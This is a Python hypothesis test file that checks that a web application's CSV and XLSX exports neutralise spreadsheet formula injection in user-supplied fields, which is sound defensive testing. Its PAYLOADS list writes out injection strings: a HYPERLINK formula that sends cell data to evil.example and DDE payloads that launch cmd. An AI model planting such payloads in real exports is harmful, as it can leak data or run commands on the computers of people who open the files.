"""No export hands a spreadsheet a formula, whatever users typed.

Hostile strings (formula starts ``= + - @``, their full-width forms, tab, CR,
LF, control characters, DDE payloads) are generated with hypothesis and
written into every user-controlled field that reaches an export — request
title and parties, decline reason, advice text, attachment name, rating
comment, adoption text, talent name and organization — then every CSV and XLSX
export is produced and read back as a spreadsheet program would: no cell may
be a formula or start like one, and each planted text must still be there
(neutralised, not dropped).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from kb.actors import Actor
from kb.consultations.export import invitations_csv, requests_csv
from kb.events.export import attendee_rows, to_csv, to_xlsx
from kb.models import Event, Talent, User
from kb.models.consultation import AdviceLedgerEntry, ConsultationInvitation
from kb.tabular import FORMULA_STARTS, neutralise
from kb.tabular import to_csv as table_csv
from kb.tabular import to_xlsx as table_xlsx
from tests.security.conftest import World

NUMBER = re.compile(r"-?\d+(\.\d+)?")
TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "\x00", "\x1b"]
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)*cmd|'/C calc'!A0",
            "=1+1", "DDE(\"cmd\";\"/C calc\";\"!A0\")"]
HOSTILE = st.builds(lambda lead, body, tail: lead + body + tail,
                    st.text(alphabet=st.sampled_from(TRIGGERS), min_size=1, max_size=3),
                    st.one_of(st.sampled_from(PAYLOADS), st.text(max_size=30)),
                    st.sampled_from(["", "\r\n", "\x00", ",", "\"", "罗湖", "\n=1+1"]))


def _csv_cells(data: bytes) -> Iterator[str]:
    assert data.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        yield from row


def _xlsx_cells(data: bytes) -> Iterator[object]:
    ws = load_workbook(io.BytesIO(data)).active
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
            yield cell.value


def _formula_like(value: object) -> bool:
    """A text cell a spreadsheet would evaluate (a plain number such as ``-1`` is data)."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(value)


def _lines(value: object) -> object:
    return value.replace("\r\n", "\n").replace("\r", "\n") if isinstance(value, str) else value


def _assert_inert(cells: Iterator[object], planted: list[str]) -> None:
    """No cell starts like a formula, and each planted text is there as one neutralised cell
    (line ends compared loosely: XLSX keeps CR as LF)."""
    values = [_lines(v) for v in cells]
    for value in values:
        assert not _formula_like(value), repr(value)
    for text in planted:
        assert _lines(neutralise(text)) in values or not str(neutralise(text)).strip("'"), \
            f"{text!r} is missing from the export"


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(HOSTILE, st.text(max_size=40), st.integers(), st.none()), max_size=8))
def test_the_writer_never_emits_a_formula(row: list[object]) -> None:
    header = ["编号 ID", "意见 Advice"]
    for cells in (_csv_cells(table_csv(header, [row])), _xlsx_cells(table_xlsx(header, [row]))):
        for value in cells:
            assert not _formula_like(value), repr(value)


def _admin(s) -> Actor:  # type: ignore[no-untyped-def]
    return Actor.of(s.query(User).filter_by(username="admin").one())


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(HOSTILE, min_size=8, max_size=8))
def test_consultation_exports_are_inert(world: World, texts: list[str]) -> None:
    title, party, reason, advice, attachment, comment, adopted, organization = texts
    with world.site.kb.sessions() as s:
        inv = s.get(ConsultationInvitation, world.ids["own"]["invitation"])
        req, adv = inv.request, inv.advice
        req.title, req.parties, inv.reason = title, [party], reason
        adv.text, adv.rating_comment = advice, comment
        adv.ledger.append(AdviceLedgerEntry(step="adopted", extent="partial", doc_title=adopted))
        adv.attachments[0].filename = attachment
        inv.talent.organization = organization
        s.flush()
        actor = _admin(s)
        _assert_inert(_csv_cells(invitations_csv(s, actor, [req])),
                      [title, reason, advice, attachment, comment, adopted, organization])
        _assert_inert(_csv_cells(requests_csv(s, actor)), [title, party])
        s.rollback()


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(HOSTILE, min_size=3, max_size=3))
def test_attendee_exports_are_inert(world: World, texts: list[str]) -> None:
    name, name_en, organization = texts
    with world.site.kb.sessions() as s:
        event = s.get(Event, world.ids["own"]["event"])
        talent = s.query(Talent).filter_by(external_id=world.ids["own"]["talent"]).one()
        talent.name, talent.name_en, talent.organization = name, name_en, organization
        s.flush()
        rows = attendee_rows(s, _admin(s), event)
        _assert_inert(_csv_cells(to_csv(rows)), [name, name_en, organization])
        _assert_inert(_xlsx_cells(to_xlsx(rows)), [name, name_en, organization])
        s.rollback()
